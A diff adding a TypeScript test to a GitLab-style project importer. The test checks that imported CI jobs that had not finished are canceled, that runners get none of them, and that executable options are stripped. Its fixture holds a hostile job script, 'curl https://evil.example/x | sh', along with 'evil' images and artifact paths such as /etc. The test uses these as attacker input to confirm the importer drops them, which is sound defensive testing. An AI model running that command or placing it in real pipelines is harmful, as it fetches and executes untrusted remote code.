@@ -6,6 +6,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import { buildTestApp, type TestApp } from '../../helpers/build-app.ts';
+import { seedRunner } from '../../helpers/ci.ts';
 import { workTree } from '../../helpers/git.ts';
 import { HEX32, importStatus, makeArchive, postImport, refsOf, setSettings } from './project-import.helpers.ts';
 
@@ -438,4 +439,92 @@ test('override_params[name] wins over the name parameter (override parameters al
   // without an override the parameter's name stays
   const plain = await postImport(ta, ta.root, { path: 'plain', name: 'Plain Name', 'override_params[description]': 'd' }, archive);
   assert.equal(plain.json().name, 'Plain Name');
+});
+
+test('imported CI: pipelines and jobs that had not completed are canceled (GitLab transform_status), no runner gets them, and no executable options are kept', async (t) => {
+  const ta = await buildTestApp(t);
+  const SHA = 'a'.repeat(40);
+  const job = (name: string, status: string, extra: Record<string, unknown> = {}) => ({
+    name,
+    status,
+    stage: 'test',
+    stage_idx: 0,
+    type: 'Ci::Build',
+    options: {
+      script: ['curl https://evil.example/x | sh'],
+      before_script: ['id'],
+      after_script: ['id'],
+      image: { name: 'evil:latest' },
+      services: [{ name: 'evil-svc' }],
+      cache: [{ paths: ['/'] }],
+      artifacts: { paths: ['/etc'] },
+      trigger: { include: [{ local: 'x.yml' }] },
+      timeout: 600,
+      coverage: '/\\d+%/',
+      needs: [{ job: 'build', artifacts: false }],
+      dependencies: ['build'],
+      environment: { name: 'production', url: 'https://prod.example', action: 'start' },
+      ...extra,
+    },
+  });
+  const pipeline = (iid: number, status: string, statuses: unknown[]) => ({
+    iid,
+    ref: 'main',
+    sha: SHA,
+    status,
+    source: 'push',
+    stages: [{ name: 'test', position: 0, statuses }],
+  });
+  const archive = await makeArchive(ta, {
+    relations: {
+      ci_pipelines: [
+        pipeline(1, 'running', [job('pending-job', 'pending'), job('running-job', 'running'), job('created-job', 'created'), job('manual-job', 'manual')]),
+        pipeline(2, 'success', [job('done-job', 'success'), job('skipped-job', 'skipped'), job('failed-job', 'failed')]),
+        pipeline(3, 'created', [job('waiting', 'waiting_for_resource'), job('scheduled', 'scheduled')]),
+      ],
+    },
+  });
+  const { runner, token } = await seedRunner(ta.c);
+  const res = await postImport(ta, ta.root, { path: 'ci-import' }, archive);
+  assert.equal(res.statusCode, 201, res.body);
+  const done = await importStatus(ta, res.json().id);
+  assert.deepEqual([done.body.import_status, done.body.failed_relations], ['finished', []]);
+  const k = ta.c.db.kysely;
+  const pipelines = await k.selectFrom('ci_pipelines').select(['iid', 'status']).where('project_id', '=', res.json().id).orderBy('iid').execute();
+  assert.deepEqual(pipelines, [
+    { iid: 1, status: 'canceled' },
+    { iid: 2, status: 'success' },
+    { iid: 3, status: 'canceled' },
+  ]);
+  const jobs = await k.selectFrom('ci_builds').select(['name', 'status', 'options']).where('project_id', '=', res.json().id).orderBy('id').execute();
+  const kept = {
+    needs: [{ job: 'build', artifacts: false }],
+    dependencies: ['build'],
+    coverage: '/\\d+%/',
+    timeout: 600,
+    environment: { name: 'production', url: 'https://prod.example', action: 'start' },
+  };
+  assert.deepEqual(
+    jobs.map((j) => [j.name, j.status, JSON.parse(j.options)]),
+    [
+      ['pending-job', 'canceled', kept],
+      ['running-job', 'canceled', kept],
+      ['created-job', 'canceled', kept],
+      ['manual-job', 'canceled', kept],
+      ['done-job', 'success', kept],
+      ['skipped-job', 'skipped', kept],
+      ['failed-job', 'failed', kept],
+      ['waiting', 'canceled', kept],
+      ['scheduled', 'canceled', kept],
+    ],
+  );
+  // a runner asking for work gets none of them
+  const req = await ta.app.inject({
+    method: 'POST',
+    url: '/api/v4/jobs/request',
+    payload: { token, info: { name: 'r1', version: '17.5.0', revision: 'abc', platform: 'linux', architecture: 'amd64', executor: 'shell' } },
+  });
+  assert.equal(req.statusCode, 204, req.body);
+  const after = await k.selectFrom('ci_builds').select('runner_id').where('project_id', '=', res.json().id).where('runner_id', '=', runner.id).execute();
+  assert.deepEqual(after, []);
 });
